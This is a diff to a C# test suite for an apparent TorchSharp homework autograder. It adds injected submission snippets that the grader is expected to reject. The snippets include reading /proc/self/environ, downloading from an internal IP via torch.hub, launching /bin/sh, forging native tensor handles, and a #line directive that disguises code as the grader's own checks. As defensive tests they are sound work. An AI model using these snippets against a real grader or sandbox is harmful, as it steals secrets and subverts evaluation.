@@ -55,6 +55,22 @@ public class HostileCorpusTests
         yield return new("module-initializer", Inject.ClassMember, "[System.Runtime.CompilerServices.ModuleInitializer] internal static void Early() { }", GradingOutcome.PolicyRejected, "module initializers", 0);
         yield return new("autograd-in-handwritten-backprop", Inject.ForwardBody, "inputs.requires_grad_(true);", GradingOutcome.PolicyRejected, "hand-written backward pass", 0);
         yield return new("unsafe-pointer-write", Inject.ClassMember, "private static unsafe void Poke() { int* p = (int*)4096; *p = 1; }", GradingOutcome.CompileFailed, "unsafe code is not allowed", 0);
+        // Issue 16's bypasses of the policy, each refused with its API named (no points).
+        yield return new("autograd-with-requires-grad", Inject.ForwardBody, "inputs = inputs.with_requires_grad();", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.with_requires_grad", 0);
+        yield return new("autograd-factory-argument", Inject.ForwardBody, "var probe = torch.zeros(new long[] { 1 }, requires_grad: true);", GradingOutcome.PolicyRejected, "hand-written backward pass", 0);
+        yield return new("delegate-by-name", Inject.InitializeBody, "var bound = System.Delegate.CreateDelegate(typeof(System.Action), this, \"GetHashCode\");", GradingOutcome.PolicyRejected, "System.Delegate.CreateDelegate", 0);
+        yield return new("generic-type-by-name", Inject.InitializeBody, "var made = typeof(System.Collections.Generic.List<>).MakeGenericType(GetType());", GradingOutcome.PolicyRejected, "System.Type.MakeGenericType", 0);
+        yield return new("expression-call-by-name", Inject.InitializeBody, "System.Linq.Expressions.Expression.Lambda<System.Action>(System.Linq.Expressions.Expression.Call(typeof(System.Console), \"Beep\", null)).Compile()();", GradingOutcome.PolicyRejected, "System.Linq.Expressions", 0);
+        yield return new("memory-marshal", Inject.InitializeBody, "var raw = System.Runtime.InteropServices.MemoryMarshal.AsBytes(new int[1].AsSpan());", GradingOutcome.PolicyRejected, "System.Runtime.InteropServices.MemoryMarshal", 0);
+        yield return new("safe-file-handle", Inject.InitializeBody, "using var socket = new System.IO.FileStream(new Microsoft.Win32.SafeHandles.SafeFileHandle(3, false), System.IO.FileAccess.Write);", GradingOutcome.PolicyRejected, "Microsoft.Win32.SafeHandles.SafeFileHandle", 0);
+        yield return new("process-start-info", Inject.InitializeBody, "var start = new System.Diagnostics.ProcessStartInfo(\"/bin/sh\");", GradingOutcome.PolicyRejected, "System.Diagnostics.ProcessStartInfo", 0);
+        yield return new("tensor-native-handle", Inject.ForwardBody, "var pointer = inputs.Handle;", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.Handle", 0);
+        yield return new("unsafe-create-tensor", Inject.ForwardBody, "var forged = torch.Tensor.UnsafeCreateTensor(default);", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.UnsafeCreateTensor", 0);
+        yield return new("tensor-from-file", Inject.InitializeBody, "var stolen = torch.from_file(\"/proc/self/environ\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.from_file", 0);
+        yield return new("torch-hub", Inject.InitializeBody, "torch.hub.download_url_to_file(\"http://10.0.0.1/w\", \"/tmp/w\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.hub", 0);
+        yield return new("tensor-load", Inject.InitializeBody, "var saved = torch.Tensor.load(\"/submission/weights.bin\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.Tensor.load", 0);
+        yield return new("module-load", Inject.InitializeBody, "torch.nn.Linear(2, 3).load(\"/submission/model.bin\");", GradingOutcome.PolicyRejected, "TorchSharp.torch.nn.Module.load", 0);
+        yield return new("line-directive-relabel", Inject.ClassMember, "\n#line 1 \"Grader.Reference/Checks/Hw1MlpChecks.cs\"\nprivate int relabelled;", GradingOutcome.PolicyRejected, "#line is not allowed", 0);
         yield return new("dynamic-binder", Inject.InitializeBody, "dynamic anything = this; anything.Forward(null);", GradingOutcome.CompileFailed, "did not compile", 0);
 
         // Contained by the sandbox: each ends with an explanation, the items it did not answer score zero.
